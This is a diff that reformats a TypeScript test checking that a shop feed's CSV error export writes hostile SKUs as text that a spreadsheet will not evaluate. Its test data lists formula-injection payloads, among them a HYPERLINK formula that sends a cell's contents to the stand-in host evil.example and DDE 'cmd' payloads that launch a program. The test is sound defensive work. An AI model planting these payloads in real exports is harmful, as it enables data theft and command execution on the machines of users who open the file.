@@ -7,7 +7,14 @@ import { useTestDaemon } from '../helpers/daemon.ts';
 import { until } from '../helpers/until.ts';
 
 /** Skus a shop (or an attacker with its key) may send: each would run as a formula unescaped. */
-const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const hostile = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
 
 /** The rows of a CSV text, as a spreadsheet or any RFC 4180 reader splits them. */
 const parseCsv = (text: string): string[][] => parse(text, { record_delimiter: '\r\n' }) as string[][];
@@ -42,10 +49,15 @@ describe('GET /admin/api/feeds/{feed}/errors.csv', () => {
   it('writes hostile skus as text a spreadsheet will not evaluate', async () => {
     const { shopPk, auth } = await daemon.shopWithKey();
     // Updates naming skus the shop does not have: one item error per sku, each sku echoed.
-    const put = await app.inject({ method: 'PUT', url: `/shops/${shopPk}/products/`, headers: auth, payload: hostile.map((sku) => ({ sku, price: 1 })) });
+    const put = await app.inject({
+      method: 'PUT',
+      url: `/shops/${shopPk}/products/`,
+      headers: auth,
+      payload: hostile.map((sku) => ({ sku, price: 1 })),
+    });
     expect(put.statusCode, put.body).toBe(201);
     const feedPk = (put.json() as { pk: string }).pk;
-    await until('the feed', async () => (['done', 'failed'].includes((await daemon.services.feeds.getAny(feedPk)).state)));
+    await until('the feed', async () => ['done', 'failed'].includes((await daemon.services.feeds.getAny(feedPk)).state));
     const csv = await app.inject({ url: `/admin/api/feeds/${feedPk}/errors.csv`, headers: { authorization: `Bearer ${TOKEN}` } });
     expect(csv.statusCode).toBe(200);
     const rows = parseCsv(csv.body);
